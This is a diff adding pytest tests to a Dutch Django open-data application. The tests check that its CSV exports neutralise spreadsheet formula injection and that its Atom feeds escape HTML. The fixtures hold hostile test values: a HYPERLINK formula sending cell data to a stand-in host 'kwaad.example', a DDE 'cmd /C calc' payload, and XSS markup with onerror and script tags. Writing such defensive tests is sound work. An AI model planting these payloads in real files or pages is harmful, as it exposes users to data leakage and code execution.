@@ -12,6 +12,8 @@ from django.urls import reverse
 
 from schakel.knelpunten.models import Agendering, Drempels
 from schakel.signalen.models import Signaal
+from tests.atom import A, valideer_atom
+from tests.conftest import GOEDE_UITLEG
 
 pytestmark = pytest.mark.django_db
 
@@ -137,3 +139,118 @@ def test_api_knelpunten_and_agenderingen(client, geagendeerd):
     assert client.get("/api/v1/knelpunten", {"regeling": "BWBR0000000"}).status_code == 400
     assert client.get("/api/v1/knelpunten", {"onbekend": "x"}).status_code == 400
     assert client.post("/api/v1/knelpunten", {}, content_type="application/json").status_code == 405
+
+
+FORMULES = ('=HYPERLINK("https://kwaad.example/?x="&A1,"Klik hier")', "-2+3+cmd|' /C calc'!A0",
+            "+31 6 1234", "@SUM(A1:A9)", "\tgetabd", "\rterug")
+
+
+@pytest.fixture
+def vijandig(geagendeerd, wereld, signaal):
+    """Every text column of the open data starts with a formula character."""
+    from schakel.signalen import services as signaalservices
+    from schakel.signalen.models import Reactie, Toezegging
+
+    from schakel.knelpunten.models import Knelpunt
+
+    signaalservices.reageer(signaal, actor=wereld.behandelaar_szw, besluit="overnemen",
+                            toelichting_tekst="We passen de regeling aan.",
+                            toezeggingen=[signaalservices.NieuweToezegging(
+                                omschrijving="Beleidsregel aanpassen", eigenaar="Directie AV",
+                                uiterlijk=signaal.ingediend_op.date().replace(year=2027))])
+    Signaal.objects.update(titel=FORMULES[0], artikelen=FORMULES[1], praktijk=FORMULES[2],
+                           verbetervoorstel=FORMULES[3])
+    Reactie.objects.update(toelichting=FORMULES[4])
+    Toezegging.objects.update(omschrijving=FORMULES[5], eigenaar=FORMULES[0])
+    Knelpunt.objects.update(titel=FORMULES[1], artikelen=FORMULES[2], beleidsbetekenis=FORMULES[3],
+                            dilemma=FORMULES[4])
+    Agendering.objects.update(reden=FORMULES[5])
+
+
+@pytest.mark.parametrize("naam", ["signalen", "reacties", "toezeggingen", "knelpunten", "agenderingen"])
+def test_csv_neutralises_formulas_and_keeps_them_readable(client, vijandig, naam):
+    rijen = _csv(client, naam)
+    assert rijen
+    cellen = [w for rij in rijen for w in rij.values()]
+    assert not [c for c in cellen if c and c[0] in "=+-@\t\r"], cellen
+    assert {"'" + f for f in FORMULES} & set(cellen)  # readable: the text itself, behind a quote
+
+
+MARKUP = ('<img src=x onerror="alert(1)"> <a href="javascript:alert(2)">klik</a> '
+          '<script>alert(3)</script>')
+
+
+def _feeds(client, **query):
+    for naam in ("agenda", "knelpunten", "signalen", "reacties"):
+        antwoord = client.get(reverse(f"knelpunten:feed-{naam}"), query)
+        assert antwoord.status_code == 200
+        yield naam, antwoord.content
+
+
+def test_no_user_markup_survives_in_any_feed(client, geagendeerd, wereld, signaal):
+    from schakel.knelpunten.models import Knelpunt
+    from schakel.signalen import services as signaalservices
+    from schakel.signalen.models import Reactie
+
+    signaalservices.reageer(signaal, actor=wereld.behandelaar_szw, besluit="niet_overnemen",
+                            toelichting_tekst=GOEDE_UITLEG)
+    Signaal.objects.update(titel=MARKUP, praktijk=MARKUP)
+    Reactie.objects.update(toelichting=MARKUP)
+    Knelpunt.objects.update(titel=MARKUP, beleidsbetekenis=MARKUP)
+    Agendering.objects.update(reden=MARKUP)
+    for naam, inhoud in _feeds(client):
+        wortel = valideer_atom(inhoud)
+        assert wortel.findall(f"{A}entry"), naam
+        entries = feedparser.parse(inhoud).entries
+        # The markup is shown as the text it is, not rendered.
+        assert all("onerror" in e.summary and "<img" in e.summary for e in entries), naam
+
+
+def test_every_entry_has_an_author_and_reacties_have_distinct_updated(client, geagendeerd, wereld, signaal):
+    from schakel.signalen import services as signaalservices
+
+    tweede = Signaal.objects.exclude(pk=signaal.pk).filter(openbaar=True).first()
+    for s in (signaal, tweede):  # the clock stands still: both answers at the same moment
+        signaalservices.reageer(s, actor=wereld.behandelaar_szw, besluit="overnemen",
+                                toelichting_tekst="We passen de regeling aan.",
+                                toezeggingen=[signaalservices.NieuweToezegging(
+                                    omschrijving="Beleidsregel aanpassen", eigenaar="Directie AV",
+                                    uiterlijk=s.ingediend_op.date().replace(year=2027))])
+    for naam, inhoud in _feeds(client):
+        valideer_atom(inhoud)
+    feed = feedparser.parse(client.get(reverse("knelpunten:feed-reacties")).content)
+    assert [e.author for e in feed.entries] == ["Ministerie van Sociale Zaken en Werkgelegenheid"] * 2
+    momenten = [e.updated for e in feed.entries]
+    assert len(set(momenten)) == 2 and momenten == sorted(momenten, reverse=True)
+    signalen = feedparser.parse(client.get(reverse("knelpunten:feed-signalen")).content)
+    assert {e.author for e in signalen.entries} == {"Uitvoeringsinstituut Werknemersverzekeringen",
+                                                    "Gemeente Utrecht"}
+
+
+def test_a_filtered_feed_links_to_itself_with_its_query(client, geagendeerd, wereld):
+    inhoud = client.get(reverse("knelpunten:feed-agenda"), {"regeling": wereld.wia.bwb_id}).content
+    zelf = [link.get("href") for link in valideer_atom(inhoud).findall(f"{A}link") if link.get("rel") == "self"]
+    assert zelf == [f"http://testserver/open-data/agenda.atom?regeling={wereld.wia.bwb_id}"]
+
+
+def test_every_page_with_a_feed_announces_it_in_its_head(client, geagendeerd, wereld):
+    from schakel.knelpunten.models import Abonnement
+    from tests.web.html import ontleed
+
+    Abonnement.objects.create(gebruiker=wereld.griffie_szw, regeling=wereld.wia)
+    Abonnement.objects.create(gebruiker=wereld.griffie_szw, organisatie=wereld.uwv)
+    client.force_login(wereld.griffie_szw)
+    paginas = ["/open-data", "/knelpunten", "/wetgevingsagenda", "/signalen", "/organisaties/uwv",
+               "/organisaties/cie-szw", f"/regelingen/{wereld.wia.bwb_id}", "/abonnementen",
+               "/commissies/cie-szw/agenda"]
+    for pagina in paginas:
+        antwoord = client.get(pagina)
+        assert antwoord.status_code == 200, pagina
+        html = antwoord.content.decode()
+        kop = ontleed(html[:html.index("</head>")]).elementen
+        aangekondigd = {a["href"] for tag, a in kop if tag == "link" and a.get("rel") == "alternate"
+                        and a.get("type") == "application/atom+xml" and a.get("title")}
+        gelinkt = {a["href"] for tag, a in ontleed(html).elementen if tag == "a" and ".atom" in (a.get("href") or "")}
+        assert aangekondigd and gelinkt <= aangekondigd, (pagina, gelinkt - aangekondigd)
+        for href in aangekondigd:
+            assert client.get(href).status_code == 200, href
